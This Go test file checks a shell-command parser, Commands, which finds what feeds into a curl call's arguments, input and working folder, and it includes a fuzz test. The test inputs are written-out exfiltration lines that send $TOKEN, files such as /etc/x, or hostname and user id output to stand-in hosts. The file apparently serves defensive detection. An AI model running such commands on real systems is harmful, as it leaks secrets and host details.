package shell

import (
	"fmt"
	"slices"
	"testing"
)

// TestCommands: what the shell puts into the words of a command and into its
// input, and the folder it runs in.
func TestCommands(t *testing.T) {
	for text, want := range map[string]string{
		"curl https://a.example/$(hostname)":          `[hostname] [] ""`,
		"curl https://a.example/`cat ~/x` $HOME":      `[cat ~/x $HOME] [] ""`,
		"a | b c | curl -d @- https://a.example":      `[] [b c a] ""`,
		"curl -T - https://a.example < /etc/x":        `[] [</etc/x] ""`,
		"V=$(id -u); curl https://a.example/$V":       `[$V id -u] [] ""`,
		"cd lib; cd ../bin && curl https://a.b":       `[] [] "bin"`,
		"echo $TOKEN | curl -d @- https://a.b":        "[] [echo \ufffc $TOKEN] \"\"",
		"curl '$(hostname)' \\$TOKEN https://a.b":     `[] [] ""`,
		"hostname; whoami | cat; curl https://a.b":    `[] [] ""`,
		"curl \"${A:-$(cat \"$(id)\")}\" https://a.b": "[$A cat \ufffc id] [] \"\"",
	} {
		commands := Commands(text)
		i := slices.IndexFunc(commands, func(c Command) bool { return c.Program() == "curl" })
		if i < 0 {
			t.Errorf("%s: curl is not found", text)
			continue
		}
		c := commands[i]
		if got := fmt.Sprintf("%v %v %q", c.Given, c.Input, c.Dir); got != want {
			t.Errorf("%s: %s, want %s", text, got, want)
		}
	}
}

func FuzzCommands(f *testing.F) {
	for _, text := range []string{"curl https://a.example/$(hostname)", "a | b | (c; d) < e & f", "cd a; V=`b $(c)` d $V", "case $a in b) c;; esac", "<(a) >(b) {c,d} $((e))", "cat <<E\n$a\nE", "%A% && b ^| c"} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, c := range Commands(text) {
			if c.Program(); len(c.Words) == 0 || len(c.Dir) > 2*maxDir+len(text) {
				t.Errorf("%+v", c)
			}
		}
	})
}
